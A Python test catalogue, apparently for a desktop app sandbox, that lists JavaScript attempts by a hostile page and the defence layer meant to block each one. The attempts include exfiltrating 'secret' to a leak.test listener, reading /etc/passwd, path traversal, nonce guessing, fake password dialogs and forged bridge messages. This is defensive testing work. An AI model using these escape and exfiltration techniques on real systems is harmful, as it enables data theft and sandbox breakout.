"""Everything a hostile page tries, one row each, and the layer that is to stop it.

A script is the body of an async function. It gives back "reached" where it got what it wanted, and throws or gives back
anything else where it did not. `to(name)` is an address of the listener that names the attempt, so that whatever is heard
tells who said it. What a script cannot see for itself, the listeners see.
"""

from dataclasses import dataclass
from enum import StrEnum


class Layer(StrEnum):
    """What stops an attempt first. Most have others behind it."""

    CONTENT_POLICY = "the content policy, which tells the page of each refusal"
    NAVIGATION_GUARD = "the page's own refusal to go anywhere"
    WINDOW_GUARD = "the page's own refusal to open a window"
    DIALOG_GUARD = "the page's own refusal to show a dialog"
    FILE_GUARD = "the page's own refusal to choose files"
    DOWNLOAD_GUARD = "the profile's refusal of every download"
    ENGINE = "the engine's flags and the host's proxy"
    SETTINGS = "features the engine has switched off for apps"
    PERMISSIONS = "permissions, denied without a question"
    ORIGIN = "an origin of its own per app, and schemes that it cannot name"
    RELAY = "the relay, which hears the app's own frame and nobody else"
    BUNDLE = "the bundle, which holds nothing but the app's own pages"
    BRIDGE = "the bridge session, which compares and never trusts"


@dataclass(frozen=True, slots=True)
class Attempt:
    """One try."""

    name: str
    layer: Layer
    script: str
    is_control: bool = False
    """Whether an undefended view is known to let it out: it shows that the listeners hear."""
    is_slow: bool = False
    """Whether only time tells: these run side by side, at the end."""


def _element(tag: str, setup: str) -> str:
    return f"""return await new Promise(done => {{
      const e = document.createElement("{tag}");
      e.onload = e.oncanplay = () => done("reached"); e.onerror = () => done("closed");
      {setup}; document.body.append(e); setTimeout(() => done("silent"), PATIENCE); }});"""


def _peer(servers: str, maker: str = "window") -> str:
    return f"""const w = {maker}; const p = new w.RTCPeerConnection({{iceServers: [{servers}]}});
      p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer());
      await new Promise(done => {{ p.onicegatheringstatechange = () => p.iceGatheringState === "complete" && done();
        setTimeout(done, PATIENCE); }}); p.close(); return "silent";"""


def _child(address: str) -> str:
    return f"""const f = document.createElement("iframe"); document.body.append(f);
      f.contentWindow.location = {address}; await later(); return "silent";"""


_BLANK = '(() => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow; })()'

ATTEMPTS = (
    # Requests.
    Attempt("fetch", Layer.CONTENT_POLICY, 'await fetch(to("fetch"), {mode: "no-cors"}); return "reached";', is_control=True),
    Attempt("fetch-post", Layer.CONTENT_POLICY, 'await fetch(to("fetch-post"), {mode: "no-cors", method: "POST", body: "secret"}); return "reached";', is_control=True),
    Attempt("fetch-keepalive", Layer.CONTENT_POLICY, 'await fetch(to("fetch-keepalive"), {mode: "no-cors", keepalive: true}); return "reached";'),
    Attempt("fetch-by-name", Layer.CONTENT_POLICY, 'await fetch(named("fetch-by-name"), {mode: "no-cors"}); return "reached";', is_control=True),
    Attempt("fetch-encrypted", Layer.CONTENT_POLICY, 'await fetch(to("fetch-encrypted").replace("http:", "https:"), {mode: "no-cors"}); return "reached";'),
    Attempt("xhr", Layer.CONTENT_POLICY, 'return await new Promise(done => { const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.onload = () => done("reached"); x.onerror = () => done("closed"); x.send(); });'),
    Attempt("xhr-synchronous", Layer.CONTENT_POLICY, 'const x = new XMLHttpRequest(); x.open("GET", to("xhr-synchronous"), false); x.send(); return "reached";'),
    Attempt("beacon", Layer.CONTENT_POLICY, 'navigator.sendBeacon(to("beacon"), "secret"); await later(); return "silent";', is_control=True),
    Attempt("websocket", Layer.CONTENT_POLICY, 'return await new Promise(done => { const s = new WebSocket(to("websocket").replace("http", "ws")); s.onopen = () => done("reached"); s.onerror = () => done("closed"); });', is_control=True),
    Attempt("event-source", Layer.CONTENT_POLICY, 'return await new Promise(done => { const s = new EventSource(to("event-source")); s.onopen = () => done("reached"); s.onerror = () => { s.close(); done("closed"); }; });'),
    Attempt("web-transport", Layer.CONTENT_POLICY, 'const t = new WebTransport(to("web-transport").replace("http:", "https:")); await t.ready; return "reached";'),
    Attempt("image", Layer.CONTENT_POLICY, _element("img", 'e.src = to("image")'), is_control=True),
    Attempt("image-set", Layer.CONTENT_POLICY, _element("img", 'e.srcset = to("image-set") + " 1x"')),
    Attempt("svg-image", Layer.CONTENT_POLICY, 'document.body.insertAdjacentHTML("beforeend", `<svg><image href="${to("svg-image")}"/></svg>`); await later(); return "silent";'),
    Attempt("style-background", Layer.CONTENT_POLICY, 'document.body.style.backgroundImage = `url(${to("style-background")})`; await later(); return "silent";'),
    Attempt("style-import", Layer.CONTENT_POLICY, 'const s = document.createElement("style"); s.textContent = `@import url(${to("style-import")});`; document.head.append(s); await later(); return "silent";'),
    Attempt("style-sheet", Layer.CONTENT_POLICY, _element("link", 'e.rel = "stylesheet"; e.href = to("style-sheet")')),
    Attempt("font", Layer.CONTENT_POLICY, 'await new FontFace("x", `url(${to("font")})`).load(); return "reached";'),
    Attempt("audio", Layer.CONTENT_POLICY, _element("audio", 'e.src = to("audio"); e.load()')),
    Attempt("video-poster", Layer.CONTENT_POLICY, 'const v = document.createElement("video"); v.poster = to("video-poster"); document.body.append(v); await later(); return "silent";'),
    Attempt("script", Layer.CONTENT_POLICY, _element("script", 'e.src = to("script")')),
    Attempt("module", Layer.CONTENT_POLICY, 'await import(to("module")); return "reached";'),
    Attempt("worker", Layer.CONTENT_POLICY, 'return await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([`try { importScripts("${to("worker")}"); postMessage("reached"); } catch { postMessage("closed"); }`]))); w.onmessage = e => done(e.data); });'),
    Attempt("worker-fetch", Layer.CONTENT_POLICY, 'return await new Promise(done => { const w = new Worker("/worker.js"); w.onmessage = e => done(e.data); w.postMessage(to("worker-fetch")); });'),
    Attempt("object", Layer.CONTENT_POLICY, _element("object", 'e.data = to("object")')),
    Attempt("embed", Layer.CONTENT_POLICY, _element("embed", 'e.src = to("embed")')),
    Attempt("frame", Layer.CONTENT_POLICY, 'const f = document.createElement("iframe"); f.src = to("frame"); document.body.append(f); await later(); return "silent";', is_control=True),
    Attempt("form", Layer.CONTENT_POLICY, 'const f = document.createElement("form"); f.action = to("form"); f.method = "post"; const i = document.createElement("iframe"); i.name = f.target = "answer"; document.body.append(i, f); f.submit(); await later(); return "silent";'),
    Attempt("manifest", Layer.SETTINGS, 'const l = document.createElement("link"); l.rel = "manifest"; l.href = to("manifest"); document.head.append(l); await later(); return "silent";', is_slow=True),
    Attempt("report", Layer.ENGINE, 'const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = `img-src \'none\'; report-uri ${to("report")}`; document.head.append(m); new Image().src = "/x.png"; await later(); return "silent";', is_slow=True),
    Attempt("anchor-ping", Layer.SETTINGS, 'const a = document.createElement("a"); a.href = "#x"; a.ping = to("anchor-ping"); document.body.append(a); a.click(); await later(); return "silent";', is_slow=True),
    # Code that was not reviewed.
    Attempt("eval", Layer.CONTENT_POLICY, 'return eval("\'reached\'");'),
    Attempt("function", Layer.CONTENT_POLICY, 'return new Function("return \'reached\'")();'),
    Attempt("inline-script", Layer.CONTENT_POLICY, 'const s = document.createElement("script"); s.textContent = "window.injected = true"; document.body.append(s); return window.injected ? "reached" : "closed";'),
    Attempt("inline-handler", Layer.CONTENT_POLICY, 'document.body.insertAdjacentHTML("beforeend", "<img src=/none.png onerror=\'window.handled = true\'>"); await later(); return window.handled ? "reached" : "closed";'),
    Attempt("script-in-data", Layer.CONTENT_POLICY, _element("script", 'e.src = "data:text/javascript,0"')),
    Attempt("script-in-blob", Layer.CONTENT_POLICY, _element("script", 'e.src = URL.createObjectURL(new Blob(["0"]))')),
    Attempt("nonce-in-a-handler", Layer.CONTENT_POLICY, 'document.body.insertAdjacentHTML("beforeend", `<img src=/none.png nonce="${nonce}" onerror="window.handledByNonce = true">`); await later(); return !nonce || window.handledByNonce ? "reached" : "closed";'),
    Attempt("nonce-of-a-remote-script", Layer.ENGINE, _element("script", 'e.nonce = nonce; e.src = to("nonce-of-a-remote-script")')),
    Attempt("nonce-guessed", Layer.CONTENT_POLICY, 'const s = document.createElement("script"); s.nonce = "0".repeat(nonce.length); s.textContent = "window.guessed = true"; document.body.append(s); return window.guessed ? "reached" : "closed";'),
    Attempt("base", Layer.CONTENT_POLICY, 'const b = document.createElement("base"); b.href = to("base"); document.head.append(b); const moved = new Image().src = "x", is = document.baseURI.startsWith("http"); b.remove(); return is ? "reached" : "closed";'),
    # Hints and channels that no content policy covers.
    Attempt("dns-prefetch", Layer.ENGINE, 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = named("dns-prefetch"); document.head.append(l); await later(); return "silent";', is_slow=True, is_control=True),
    Attempt("preconnect", Layer.ENGINE, 'const l = document.createElement("link"); l.rel = "preconnect"; l.href = to("preconnect"); document.head.append(l); await later(); return "silent";', is_slow=True, is_control=True),
    Attempt("preconnect-by-name", Layer.ENGINE, 'const l = document.createElement("link"); l.rel = "preconnect"; l.href = named("preconnect-by-name"); document.head.append(l); await later(); return "silent";', is_slow=True),
    Attempt("prefetch", Layer.CONTENT_POLICY, 'const l = document.createElement("link"); l.rel = "prefetch"; l.href = to("prefetch"); document.head.append(l); await later(); return "silent";', is_slow=True),
    Attempt("speculation", Layer.CONTENT_POLICY, 'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{source: "list", urls: [to("speculation")]}]}); document.head.append(s); await later(); return "silent";'),
    Attempt("webrtc-stun", Layer.ENGINE, _peer("{urls: `stun:127.0.0.1:${UDP}`}"), is_slow=True, is_control=True),
    Attempt("webrtc-turn-udp", Layer.ENGINE, _peer('{urls: `turn:127.0.0.1:${UDP}`, username: "secret", credential: "x"}'), is_slow=True),
    Attempt("webrtc-turn-tcp", Layer.ENGINE, _peer('{urls: `turn:127.0.0.1:${TCP}?transport=tcp`, username: "secret", credential: "x"}'), is_slow=True, is_control=True),
    Attempt("webrtc-by-name", Layer.ENGINE, _peer('{urls: "stun:webrtc-by-name.leak.test:3478"}'), is_slow=True),
    Attempt("webrtc-in-a-blank-frame", Layer.ENGINE, _peer("{urls: `stun:127.0.0.1:${UDP}`}", _BLANK), is_slow=True),
    Attempt("federated-login", Layer.PERMISSIONS, 'await navigator.credentials.get({identity: {providers: [{configURL: to("federated-login").replace("http:", "https:"), clientId: "x"}]}}); return "reached";', is_slow=True),
    Attempt("service-worker", Layer.SETTINGS, 'await navigator.serviceWorker.register("/worker.js"); return "reached";'),
    Attempt("shared-worker", Layer.ORIGIN, 'new SharedWorker(to("shared-worker")); await later(); return "silent";'),
    # Going elsewhere.
    Attempt("navigate-top", Layer.NAVIGATION_GUARD, 'top.location = to("navigate-top"); await later(); return "silent";'),
    Attempt("navigate-parent-to-itself", Layer.NAVIGATION_GUARD, 'parent.location = "/navigate-parent-to-itself"; await later(); return "silent";'),
    Attempt("navigate-to-file", Layer.ORIGIN, 'top.location = "file:///etc/passwd"; await later(); return "silent";'),
    Attempt("navigate-a-child", Layer.CONTENT_POLICY, _child('to("navigate-a-child")')),
    Attempt("navigate-a-child-to-data", Layer.CONTENT_POLICY, _child('`data:text/html,<img src="${to("navigate-a-child-to-data")}">`')),
    Attempt("refresh", Layer.CONTENT_POLICY, 'const f = document.createElement("iframe"); f.srcdoc = `<meta http-equiv="refresh" content="0;url=${to("refresh")}">`; document.body.append(f); await later(); return "silent";'),
    Attempt("window", Layer.WINDOW_GUARD, 'await click(); return await opened(to("window"));'),
    Attempt("window-blank", Layer.WINDOW_GUARD, 'await click(); return await opened("about:blank");'),
    Attempt("anchor-to-a-window", Layer.WINDOW_GUARD, 'await click(); const a = document.createElement("a"); a.href = to("anchor-to-a-window"); a.target = "_blank"; document.body.append(a); a.click(); await later(); return "silent";'),
    Attempt("external-protocol", Layer.CONTENT_POLICY, _child('"mailto:somebody@leak.test"')),
    Attempt("download", Layer.DOWNLOAD_GUARD, 'await click(); const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "run-me.sh"; document.body.append(a); a.click(); await later(); return "silent";'),
    Attempt("download-elsewhere", Layer.CONTENT_POLICY, 'const f = document.createElement("iframe"); document.body.append(f); const a = f.contentDocument.createElement("a"); a.href = to("download-elsewhere"); a.download = "x"; f.contentDocument.body.append(a); a.click(); await later(); return "silent";'),
    # Other places on this machine.
    Attempt("read-a-file", Layer.CONTENT_POLICY, 'await fetch("file:///etc/passwd"); return "reached";'),
    Attempt("read-another-app", Layer.CONTENT_POLICY, 'await fetch("lime-app://other/"); return "reached";'),
    Attempt("frame-another-app", Layer.CONTENT_POLICY, 'const f = document.createElement("iframe"); f.src = "lime-app://other/"; document.body.append(f); await later(); return "silent";'),
    Attempt("read-engine-pages", Layer.CONTENT_POLICY, 'await fetch("chrome://version/"); return "reached";'),
    Attempt("read-resources", Layer.CONTENT_POLICY, 'await fetch("qrc:/qtwebchannel/qwebchannel.js"); return "reached";'),
    Attempt("read-the-package", Layer.BUNDLE, 'const texts = await Promise.all(["/../../APP.md", "/%2e%2e/%2e%2e/APP.md", "/..%2f..%2fAPP.md", "/APP.md"].map(async p => (await fetch(p)).text())); return texts.some(t => t.includes("manifestVersion")) ? "reached" : "closed";'),
    Attempt("guess-a-body", Layer.BUNDLE, 'const t = await (await fetch("/__lime__/body/aaaaaaaaaaaaaaaaaaaaaaaa")).text(); return t.startsWith("This file is not part") ? "closed" : "reached";'),
    Attempt("post-to-the-host", Layer.BUNDLE, 'try { await fetch("/app.js", {method: "POST", body: "x".repeat(100000)}); return "reached"; } catch { return "closed"; }'),
    Attempt("range-without-body", Layer.BUNDLE, 'return (await (await fetch("/app.js", {headers: {Range: "bytes=99999999-"}})).text()) === "" ? "closed" : "reached";'),
    # Devices, dialogs, the person's attention.
    Attempt("camera", Layer.PERMISSIONS, 'await navigator.mediaDevices.getUserMedia({video: true}); return "reached";'),
    Attempt("microphone", Layer.PERMISSIONS, 'await navigator.mediaDevices.getUserMedia({audio: true}); return "reached";'),
    Attempt("screen", Layer.PERMISSIONS, 'await click(); await navigator.mediaDevices.getDisplayMedia(); return "reached";'),
    Attempt("place", Layer.PERMISSIONS, 'return await new Promise(done => navigator.geolocation.getCurrentPosition(() => done("reached"), () => done("closed")));'),
    Attempt("notification", Layer.PERMISSIONS, 'return (await Notification.requestPermission()) === "granted" ? "reached" : "closed";'),
    Attempt("clipboard", Layer.PERMISSIONS, 'await click(); await navigator.clipboard.readText(); return "reached";'),
    Attempt("paste", Layer.SETTINGS, 'await click(); return document.execCommand("paste") ? "reached" : "closed";'),
    Attempt("midi", Layer.PERMISSIONS, 'await navigator.requestMIDIAccess({sysex: true}); return "reached";'),
    Attempt("usb", Layer.PERMISSIONS, 'await click(); await navigator.usb.requestDevice({filters: []}); return "reached";'),
    Attempt("serial", Layer.PERMISSIONS, 'await click(); await navigator.serial.requestPort(); return "reached";'),
    Attempt("local-fonts", Layer.PERMISSIONS, 'await click(); return (await queryLocalFonts()).length ? "reached" : "closed";'),
    Attempt("idle", Layer.PERMISSIONS, 'return (await IdleDetector.requestPermission()) === "granted" ? "reached" : "closed";'),
    Attempt("full-screen", Layer.PERMISSIONS, 'await click(); await document.documentElement.requestFullscreen(); return "reached";'),
    Attempt("file-picker", Layer.FILE_GUARD, 'await click(); await within(showOpenFilePicker()); return "closed";'),
    Attempt("file-input", Layer.FILE_GUARD, 'await click(); const i = document.createElement("input"); i.type = "file"; document.body.append(i); const got = new Promise(done => { i.onchange = () => done("reached"); i.oncancel = () => done("closed"); }); i.click(); return await within(got);'),
    Attempt("alert", Layer.DIALOG_GUARD, 'alert("Lime Desktop needs your password"); return "silent";'),
    Attempt("prompt", Layer.DIALOG_GUARD, 'return prompt("Password?") === null ? "closed" : "reached";'),
    Attempt("protocol-handler", Layer.ORIGIN, 'navigator.registerProtocolHandler("mailto", location.origin + "/%s"); return "silent";'),
    # The bridge.
    Attempt("see-the-channel", Layer.RELAY, 'return [window, parent].some(w => "qt" in w || "QWebChannel" in w) ? "reached" : "closed";'),
    Attempt("speak-from-a-nested-frame", Layer.RELAY, 'const f = document.createElement("iframe"); f.src = "/nested.html"; document.body.append(f); await new Promise(done => f.onload = done); await later(); return "silent";'),
    Attempt("speak-from-a-frame-beside", Layer.RELAY, 'const f = parent.document.createElement("iframe"); f.src = "/nested.html"; parent.document.body.append(f); await new Promise(done => f.onload = done); await later(); f.remove(); return "silent";'),
    Attempt("forge-an-event", Layer.RELAY, 'parent.dispatchEvent(new MessageEvent("message", {data: toast("forged event"), source: window, origin: location.origin})); return "silent";'),
    Attempt("poison-the-parent", Layer.RELAY, 'parent.JSON.stringify = () => JSON.stringify(toast("poisoned parent")); parent.postMessage(call("lime.ui", "getLocale"), "*"); await later(); return "silent";'),
    Attempt("script-in-the-parent", Layer.CONTENT_POLICY, 'const s = parent.document.createElement("script"); s.textContent = "window.injected = typeof qt"; parent.document.body.append(s); return parent.injected ? "reached" : "closed";'),
    Attempt("another-apps-name", Layer.BRIDGE, 'return await ask({...toast("another app"), appId: "other"});'),
    Attempt("undeclared-capability", Layer.BRIDGE, 'return await ask(call("lime.terminal", "run", {command: "id"}));'),
    Attempt("ungranted-storage", Layer.BRIDGE, 'return await ask(call("lime.storage", "set", {key: "a", value: 1}));'),
    Attempt("open-a-file-outside", Layer.BRIDGE, 'return await ask({...envelope("host:openExternal"), payload: {url: "file:///etc/passwd"}});'),
    Attempt("leave-by-navigate", Layer.BRIDGE, 'return await ask({...envelope("host:navigate"), payload: {url: to("leave-by-navigate")}});'),
    Attempt("navigate-to-the-hosts-frame", Layer.BRIDGE, 'return await ask({...envelope("host:navigate"), payload: {route: "/__lime__/frame.html"}});'),
    Attempt("a-message-too-large", Layer.BRIDGE, 'return await ask({...toast("x".repeat(1_100_000))});'),
)  # fmt: skip
